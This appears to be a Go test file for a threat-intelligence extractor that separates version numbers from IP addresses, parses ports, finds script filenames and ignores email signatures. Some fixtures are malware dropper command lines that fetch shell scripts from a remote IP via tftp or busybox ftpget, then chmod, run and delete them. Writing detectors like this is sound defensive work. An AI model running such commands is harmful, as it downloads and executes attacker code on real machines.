package extract_test

import (
	"strings"
	"testing"

	"github.com/portent-cti/portent/internal/intel"
)

func TestNumbersBehindAProductAreItsVersion(t *testing.T) {
	checkAside(t, "", map[string]string{
		"They used WinRAR 5.91.0.0 and PuTTYgen 0.70.0.0": "ipv4:5.91.0.0 version number; ipv4:0.70.0.0 version number",
		"7-Zip 9.20.1.0":                       "ipv4:9.20.1.0 version number",
		"runs Java 1.8.0.202":                  "ipv4:1.8.0.202 version number",
		"a Gateway ADC 13.1.49.13":             "ipv4:13.1.49.13 version number",
		"pip install evil==1.2.3.4":            "ipv4:1.2.3.4 version number",
		"wildcard 0.0.15.255":                  "ipv4:0.0.15.255 netmask",
		"Nightbell 5.9.0.246":                  "", // malware, and where it was
		"Norway 5.2.12.34":                     "",
		"Blocked 5.2.12.34 and From 5.2.12.35": "",
		"Attackers at 6.7.8.9 scanned for it":  "",
		"We blocked 5.8.9.10 and 5.8.9.11":     "",
		"evil-c.com<45.134.21.99>":             "",
	})
}

func TestPortsAreNoPartsOfAddresses(t *testing.T) {
	checkLive(t, "", map[string]string{
		"45.134.21.98 port 443, 91.92.240.7 port 8080": "ipv4:45.134.21.98 ipv4:91.92.240.7 port:443/tcp port:8080/tcp",
		"port 4444; 45.134.21.98":                      "ipv4:45.134.21.98 port:4444/tcp",
		"port 4444, 45-134-21-98.evil.net":             "domain:45-134-21-98.evil.net port:4444/tcp",
		"45.134.21.98(port 443), 45.134.21.99(RU)":     "ipv4:45.134.21.98 ipv4:45.134.21.99 port:443/tcp",
		"ports 80, 443 and 8080":                       "port:443/tcp port:80/tcp port:8080/tcp",
	})
}

func TestScriptsInCommandLinesAreFiles(t *testing.T) {
	checkLive(t, "", map[string]string{
		"chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh": "filename:bins.sh",
		"cd /tmp; tftp 45.134.21.98 -c get t.sh":        "filename:t.sh ipv4:45.134.21.98",
		"busybox ftpget -v 45.134.21.98 f.sh g.sh":      "filename:f.sh filename:g.sh ipv4:45.134.21.98",
		"the domain evil-w.sh is theirs":                "domain:evil-w.sh",
	})
}

func TestWhatClosesALetterBeginsItsSignature(t *testing.T) {
	const who = "Alice\nACME Security | www.acme-sec.com | alice@acme-sec.com"
	for _, c := range []struct {
		genre intel.Genre
		text  string
		aside bool
	}{
		{intel.Mail, "seen\n\nBest regards,\n" + who, true},
		{intel.Report, "seen\r\nMit freundlichen Grüßen\r\n" + who, true},
		{intel.Mail, "Thanks!\n" + who, true},
		{intel.Report, "Thanks!\n" + who, false},
		{intel.Mail, "Best regards,\n" + who + strings.Repeat("\nevil.com is one more", 10), false},
		{intel.Mail, "Regards to all who helped.\n" + who, false},
	} {
		for _, o := range scanner(t).Observations(intel.Document{Genre: c.genre, Text: c.text}) {
			if (o.Suppressed != "") != c.aside {
				t.Errorf("%s %q: %v is set aside for %q", c.genre, c.text, o.Entity, o.Suppressed)
			}
		}
	}
	for _, o := range scanner(t).Observations(intel.Document{Genre: intel.Mail, Author: "alice@acme-sec.com", Text: "see www.acme-sec.com"}) {
		if o.Suppressed == "" {
			t.Errorf("%v is the sender's and no indicator", o.Entity)
		}
	}
}
